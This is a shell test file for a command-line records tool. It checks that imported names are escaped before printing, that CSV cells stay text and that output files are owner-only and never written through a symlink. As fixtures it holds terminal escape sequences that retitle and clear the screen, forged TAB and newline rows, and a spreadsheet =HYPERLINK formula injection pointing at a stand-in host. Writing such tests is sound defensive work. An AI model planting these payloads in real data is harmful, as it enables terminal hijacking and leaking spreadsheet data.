# test_output_safety.sh — output that cannot be turned against its reader: text from
# imports never reaches the terminal raw, a spreadsheet never runs a report cell, and
# files with personal data written with -o are owner-only.

ESC=$(printf '\033')
BEL=$(printf '\007')
TAB=$(printf '\t')
# A name that would retitle the terminal and clear the screen, with a TAB and a line
# break that would forge extra columns and rows of a tab-separated list.
EVIL="Lò${ESC}]0;pwned${BEL}${ESC}[2J Thị${TAB}x${TAB}y
forged${TAB}row Mai"

# has_control FILE — 0 when FILE holds an ESC, BEL or other C0 byte besides TAB/LF/CR.
has_control() {
	LC_ALL=C grep -q "$(printf '[\001-\010\013\014\016-\037\177]')" "$1"
}

case_ "dupes: control characters, TAB and line breaks in names are never printed raw"
run sxsh init
sqlite3 "$SXSH_DB" "INSERT INTO people (uuid, updated_at, origin, full_name, name_key, sort_key, birth_year)
  VALUES ('00000000-0000-7000-8000-000000000001', 1, 'a', '$EVIL', 'lo thi mai', 'l', 1985),
         ('00000000-0000-7000-8000-000000000002', 1, 'b', '$EVIL', 'lo thi mai', 'l', 1985);"
run sxsh dupes
expect_status 0
has_control "$T/out" && fail "raw control characters in: $(od -c "$T/out" | head -5)"
[ "$(wc -l < "$T/out")" = 1 ] || fail "one pair printed as $(wc -l < "$T/out") lines"
[ "$(awk -F'\t' '{ print NF }' "$T/out")" = 7 ] || fail "the line has $(awk -F'\t' '{ print NF }' "$T/out") columns, want 7"
expect_out_has "Lò�]0;pwned��[2J Thị x y forged row Mai"

case_ "report and sheet as text: control characters from imported text are shown, not run"
run sxsh init
sqlite3 "$SXSH_DB" "UPDATE places SET name = '$EVIL' WHERE name = 'Mai Sơn';
  INSERT INTO sessions (uuid, updated_at, origin, kind, code, title, start_date, end_date, venue)
  VALUES ('0196b0a0-0000-7000-8000-000000000001', 1, 'o', 'training', 'TH-1', '$EVIL',
    '2025-05-12', '2025-05-12', '$EVIL');
  INSERT INTO people (uuid, updated_at, origin, full_name, name_key, sort_key, unit)
  VALUES ('p1', 1, 'o', '$EVIL', 'lo', 'l', '$EVIL');
  INSERT INTO participants (uuid, updated_at, origin, session_uuid, person_uuid)
  VALUES ('x1', 1, 'o', '0196b0a0-0000-7000-8000-000000000001', 'p1');
  INSERT INTO facilities (uuid, updated_at, origin, name, name_key, sort_key, place_uuid, cp_potential)
  VALUES ('f1', 1, 'o', 'Xưởng', 'xuong', 'x', (SELECT uuid FROM places WHERE code = '125'), 1);"
# (the facility gives the renamed district a row in the report's areas)
run sxsh report --plan SL-SXSH-2016-2020 --format text
expect_status 0
has_control "$T/out" && fail "report: raw control characters"
expect_out_has "Lò�]0;pwned��[2J Thị x y forged row Mai"
run sxsh sheet TH-1 --format text
expect_status 0
has_control "$T/out" && fail "sheet: raw control characters"
expect_out_has "Lò�]0;pwned��[2J Thị x y forged row Mai"

case_ "import: a message quoting a value shows its control characters, not runs them"
run sxsh init
printf 'uuid,updated_at,origin,deleted,full_name,name_key,sort_key,gender,birth_year,ethnicity,phone,unit,position,place_uuid,category,on_roster,facility_uuid,note\n00000000-0000-7000-8000-000000000001,2024-01-01T00:00:00.000Z,a,0,An,,,,19\033]0;pwned\00785,,,,,,,0,,\n' >"$T/people.csv"
run sxsh import "$T/people.csv"
expect_status 1
has_control "$T/err" && fail "raw control characters in: $ERR"
expect_err_has 'people.csv:2: birth_year: "19�]0;pwned�85" is not a number'

case_ "report --format csv: a cell that a spreadsheet would run as a formula stays text"
run sxsh init
sqlite3 "$SXSH_DB" "UPDATE places SET name = '=HYPERLINK(\"http://x.example/\"&A1,\"Mai Sơn\")' WHERE name = 'Mai Sơn';
  UPDATE places SET name = '@SUM(1+1)' WHERE name = 'Yên Châu';"
run sxsh report --plan SL-SXSH-2016-2020 --format csv
expect_status 0
expect_out_has "district,\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"Mai Sơn\"\")\",informed,"
expect_out_has "district,'@SUM(1+1),informed,"
grep -q ',=\|,"=\|,@' "$T/out" && fail "a formula cell is left as it is: $(grep ',=\|,"=\|,@' "$T/out" | head -2)"

case_ "sheet and report -o FILE: owner-only files, also over an existing file; never through a link"
run sxsh init
sqlite3 "$SXSH_DB" "INSERT INTO sessions (uuid, updated_at, origin, kind, code, title, start_date, end_date)
  VALUES ('0196b0a0-0000-7000-8000-000000000001', 1, 'o', 'training', 'TH-1', 'Tập huấn', '2025-05-12', '2025-05-12');"
old_umask=$(umask)
umask 022
run sxsh sheet TH-1 -o "$T/sheet.html"
expect_status 0
expect_out ""
expect_mode "$T/sheet.html" 600
grep -q '<!DOCTYPE html>' "$T/sheet.html" || fail "sheet.html holds no sheet"
echo old >"$T/report.txt" && chmod 644 "$T/report.txt"
run sxsh report -o "$T/report.txt"
expect_status 0
expect_mode "$T/report.txt" 600
grep -q 'Enterprises with a rapid CP assessment' "$T/report.txt" || fail "report.txt holds no report"
run sxsh report --format html -o "$T/r.html"
expect_mode "$T/r.html" 600
umask "$old_umask"
echo keep >"$T/target" && ln -s "$T/target" "$T/link.html"
run sxsh sheet TH-1 -o "$T/link.html"
expect_status 1
expect_err_has "link.html: cannot write:"
[ "$(cat "$T/target")" = keep ] || fail "wrote through the symbolic link"
run sxsh report -o
expect_status 2
